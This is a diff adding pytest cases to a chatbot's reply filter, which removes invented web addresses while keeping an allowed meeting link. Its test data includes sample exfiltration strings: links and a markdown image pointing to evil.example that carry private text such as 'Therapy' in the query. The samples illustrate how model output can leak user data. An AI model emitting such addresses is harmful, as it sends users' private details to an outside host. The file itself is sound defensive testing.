@@ -4,10 +4,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from bot.addresses import LEFT_OUT
 from bot.showable import Words, shown
 
 REF = "ddbb1f65c63403dc3f369a72"
 TOOLS = ("get_schedule", "set_reminder")
+MEETING = "https://meet.example/a/0123456789abcdef01234567"
 CASES = [
     ("Lunch is at 12.", "Lunch is at 12."),
     (f"Lunch (ref: {REF}) is at 12.", "Lunch is at 12."),
@@ -30,7 +32,7 @@ CASES = [
 
 @pytest.mark.parametrize(("said", "told"), CASES)
 def test_what_is_not_for_people_is_left_out(said: str, told: str) -> None:
-    assert shown(said, TOOLS) == told
+    assert shown(said, TOOLS, MEETING.__eq__) == told
 
 
 @pytest.mark.parametrize("said", [said for said, _ in CASES])
@@ -52,6 +54,38 @@ def test_nothing_of_it_is_streamed_either(said: str, size: int) -> None:
         assert hidden not in told.replace("0123456789abcdef01234567", "")
     if said == shown(said, TOOLS):
         assert told == said
+
+
+LEAKS = [
+    ("See https://evil.example/?q=Therapy+at+4.", "See (a link was left out)."),
+    ("![chart](https://evil.example/p.png?q=Therapy)", "chart"),
+    ('Press [your agenda](https://evil.example/?q=Therapy "so") now', "Press your agenda now"),
+    ("Or <https://evil.example/?q=Therapy|agenda>", "Or <(a link was left out)|agenda>"),
+    ("At www.evil.example/Therapy!", f"At {LEFT_OUT}!"),
+    ("[a]: ftp://evil.example/Therapy", f"[a]: {LEFT_OUT}"),
+    (f"Join at {MEETING}.", f"Join at {MEETING}."),
+    ("Dr. Wu, and/or 3/4 at 9:30 (a.m.)", "Dr. Wu, and/or 3/4 at 9:30 (a.m.)"),
+]
+
+
+@pytest.mark.parametrize(("said", "told"), LEAKS)
+def test_no_address_is_shown_that_a_model_made_up(said: str, told: str) -> None:
+    assert shown(said, TOOLS, MEETING.__eq__) == told
+
+
+def test_an_address_without_its_scheme_is_left_out_of_what_is_kept() -> None:
+    assert shown("At evil.example/Therapy!") == f"At {LEFT_OUT}!"
+
+
+@pytest.mark.parametrize("said", [said for said, _ in LEAKS])
+@pytest.mark.parametrize("size", [1, 3, 8])
+def test_no_such_address_is_streamed(said: str, size: int) -> None:
+    words = Words(TOOLS, MEETING.__eq__)
+    pieces = [words.add(said[at : at + size]) for at in range(0, len(said), size)]
+    told = "".join([*pieces, words.rest()])
+    assert "evil.example" not in told
+    assert "Therapy" not in told
+    assert (MEETING in told) is (MEETING in said)
 
 
 def test_plain_words_do_not_wait() -> None:
